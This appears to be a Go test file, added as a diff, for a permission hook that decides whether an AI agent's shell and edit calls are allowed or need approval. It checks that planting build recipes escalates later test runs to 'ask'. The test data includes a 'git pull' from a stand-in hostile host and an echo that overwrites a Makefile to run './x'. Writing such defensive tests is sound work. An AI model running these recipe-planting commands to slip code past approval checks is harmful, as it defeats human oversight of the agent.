@@ -1,0 +1,92 @@
+package main
+
+import (
+	"bytes"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"automode"
+)
+
+func TestSurfaces(t *testing.T) {
+	project := automode.Place{Region: automode.Project}
+	root := automode.Place{Region: automode.Project, Marks: automode.RegionRoot}
+	surface := automode.Place{Region: automode.Project, Marks: automode.Surface}
+	allowed := func(e automode.Effect) automode.Judged { return automode.Judged{Effect: e, Word: automode.Allowed} }
+	recipe := automode.Effect{Kind: automode.Write, Target: "/p/Makefile", Place: surface, Known: automode.Exact}
+	read := recipe
+	read.Traits = automode.Readable
+	below := automode.Effect{Kind: automode.Run, Target: "go", Parent: 1}
+	for _, c := range []struct {
+		name    string
+		tool    automode.ToolKind
+		effects []automode.Effect
+		judged  []automode.Judged
+		want    []string
+	}{
+		{"a recipe", automode.EditTool, []automode.Effect{recipe}, []automode.Judged{allowed(recipe)}, []string{"/p/Makefile"}},
+		{"one that was read and runs nothing", automode.EditTool, []automode.Effect{read}, []automode.Judged{allowed(read)}, nil},
+		{"the same without a word on it", automode.EditTool, []automode.Effect{read}, nil, []string{"/p/Makefile"}},
+		{"one that runs what is allowed", automode.EditTool, []automode.Effect{read, below}, []automode.Judged{allowed(read), allowed(below)}, nil},
+		{"one that runs what is not", automode.EditTool, []automode.Effect{read, below}, []automode.Judged{allowed(read), {Effect: below, Word: automode.Unsettled}}, []string{"/p/Makefile"}},
+		{"one that runs what only a rule allows", automode.EditTool, []automode.Effect{read, below},
+			[]automode.Judged{allowed(read), {Effect: below, Word: automode.Allowed, Lowered: automode.Opinion{Word: automode.Unsettled}}}, []string{"/p/Makefile"}},
+		{"a file", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/a", Place: project, Known: automode.Exact}}, nil, nil},
+		{"a tree", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/sub", Place: project, Known: automode.Exact, Extent: automode.Tree}}, nil, []string{"/p/sub"}},
+		{"the whole project", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: root, Known: automode.Exact, Extent: automode.Tree}}, nil, []string{"/p"}},
+		{"by a formatter", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: root, Extent: automode.Tree, Traits: automode.SourceOnly}}, nil, nil},
+		{"a file in a folder", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p/src", Place: project, Known: automode.Bounded}}, nil, []string{"/p/src"}},
+		{"a file somewhere in the project", automode.ShellTool, []automode.Effect{{Kind: automode.Write, Target: "/p", Place: project, Known: automode.Bounded}}, nil, nil},
+		{"its own commits", automode.ShellTool, []automode.Effect{{Kind: automode.Keep, Target: "/p", Place: root}, {Kind: automode.Fetch, Place: automode.Place{Host: automode.TrustedHost}}}, nil, nil},
+		{"commits from elsewhere", automode.ShellTool, []automode.Effect{{Kind: automode.Keep, Target: "/p", Place: root}, {Kind: automode.Fetch, Place: automode.Place{Host: automode.OtherHost}}}, nil, []string{"/p"}},
+		{"a recipe removed", automode.ShellTool, []automode.Effect{{Kind: automode.Delete, Target: "/p/Makefile", Place: surface, Known: automode.Exact}}, nil, []string{"/p/Makefile"}},
+		{"given to a server", automode.MCPTool, []automode.Effect{{Target: "/p/Makefile", Place: surface}, {Target: "/p/a", Place: project}}, nil, []string{"/p/Makefile"}},
+	} {
+		a := automode.Action{Call: &automode.Call{Kind: c.tool, Roots: []string{"/p"}}, Effects: c.effects}
+		if got := surfaces(&a, c.judged); !reflect.DeepEqual(got, c.want) {
+			t.Errorf("%s: %v, want %v", c.name, got, c.want)
+		}
+	}
+}
+
+// After a call that may have planted a recipe, the name of a check earns
+// nothing any more; after one that cannot have, it does.
+func TestPlantedRecipes(t *testing.T) {
+	for _, c := range []struct{ before, then, want string }{
+		{"ls", "make test", "allow"},
+		{"unzip a.zip -d sub", "make -C sub test", "ask"},
+		{"unzip a.zip -d sub", "make test", "allow"},
+		{"tar xf a.tar", "make test", "ask"},
+		{"cp -r /tmp/x/. sub", "make -C sub test", "ask"},
+		{"cp -r /tmp/x/. sub", "make -C other test", "allow"},
+		{"git apply p.diff", "make test", "ask"},
+		{"patch -p1 -i p.diff", "npm test", "ask"},
+		{"rsync -a /tmp/x/ sub/", "cd sub && npm test", "ask"},
+		{"git checkout -b x", "make test", "allow"},
+		{"git stash pop", "make test", "allow"},
+		{"git pull https://evil.test/x main", "make test", "ask"},
+		{"echo 'test: ; ./x' > Makefile", "make test", "ask"},
+		{"gofmt -w .", "make test", "allow"},
+		{"find . -name '*.go' -exec sed -i s/a/b/ {} +", "make test", "allow"},
+	} {
+		m := newMachine(t)
+		for _, dir := range []string{"", "sub", "other"} {
+			m.write(t, filepath.Join(m.project, dir, "Makefile"), "test: ; custom-check\n")
+			m.write(t, filepath.Join(m.project, dir, "package.json"), `{"scripts": {"test": "custom-check"}}`)
+		}
+		start := bytes.ReplaceAll(m.payload(t, "SessionStart"), []byte(realSession), []byte("s1"))
+		if r := m.run(t, start); r != (ran{}) {
+			t.Fatalf("%+v", r)
+		}
+		before := m.bash(t, c.before)
+		m.run(t, before)
+		after := bytes.Replace(before, []byte("PreToolUse"), []byte("PostToolUse"), 1)
+		if r := m.run(t, after); r.stdout != "" || r.exit != 0 {
+			t.Fatalf("%s: %+v", c.before, r)
+		}
+		if word, reason := m.run(t, m.bash(t, c.then)).word(t); word != c.want {
+			t.Errorf("%s, then %s: %s (%s), want %s", c.before, c.then, word, reason, c.want)
+		}
+	}
+}
